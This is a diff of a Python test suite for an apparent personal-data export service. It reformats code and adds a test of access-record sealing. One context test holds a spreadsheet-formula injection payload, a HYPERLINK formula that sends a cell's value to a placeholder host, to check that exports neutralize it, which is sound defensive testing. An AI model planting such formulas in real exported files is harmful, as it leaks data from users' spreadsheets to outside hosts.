@@ -112,9 +112,7 @@ def test_formula_like_text_is_neutralized(
     assert name is not None and key is not None
     evil = '=HYPERLINK("http://x/?"&A1,"点此")'
     session.execute(update(table).where(table.c[key.column] == K1).values({name.column: evil}))
-    session.execute(
-        update(table).where(table.c[key.column] == K2).values({name.column: "－1＋2"})
-    )
+    session.execute(update(table).where(table.c[key.column] == K2).values({name.column: "－1＋2"}))
     g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
     session.commit()
     r = client.get(
@@ -190,9 +188,7 @@ def test_refusals_are_recorded_once_and_leak_nothing(
     session.expire_all()
     (rec,) = _records(session)
     assert (rec.outcome, rec.reason, rec.rows, rec.grant_id) == ("refused", code, 0, grant_id)
-    refused = session.scalar(
-        select(func.count()).where(AccessRecord.action == "request.refused")
-    )
+    refused = session.scalar(select(func.count()).where(AccessRecord.action == "request.refused"))
     assert refused == 0  # recorded once, by the gate's caller
 
 
@@ -337,3 +333,29 @@ def test_row_condition_values_are_data_not_sql(
             assert pq.read_table(io.BytesIO(r.content)).to_pylist() == [
                 {"公民身份号码": K2, "姓名": "李四"}
             ]
+
+
+def test_progress_and_end_write_only_an_open_unsealed_record(
+    session: Session, world: World, test_sessionmaker: sessionmaker[Session]
+) -> None:
+    sc = _city(session, world)
+    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
+    export = bulk.start(session, _system_actor(session, sc), g.id, purpose=PURPOSE, fmt="csv")
+    session.commit()
+    bulk.progress(test_sessionmaker, export.record_id, 2)
+    session.expire_all()
+    (rec,) = _records(session)
+    assert (rec.rows, rec.reason) == (2, "sharing.stream_interrupted")  # a server dying now
+    bulk.finish(test_sessionmaker, export.record_id, 3, complete=True)
+    bulk.finish(test_sessionmaker, export.record_id, 99, complete=False)  # closed: no effect
+    session.expire_all()
+    (rec,) = _records(session)
+    assert (rec.rows, rec.reason, rec.open_until) == (3, "", None)
+    # A record the sealer sealed (its time past) is never written again.
+    other = bulk.start(session, _system_actor(session, sc), g.id, purpose=PURPOSE, fmt="csv")
+    session.execute(update(AccessRecord).where(AccessRecord.id == other.record_id).values(sealed=1))
+    session.commit()
+    bulk.finish(test_sessionmaker, other.record_id, 3, complete=True)
+    session.expire_all()
+    sealed = session.get(AccessRecord, other.record_id)
+    assert sealed is not None and (sealed.rows, sealed.open_until is None) == (0, False)
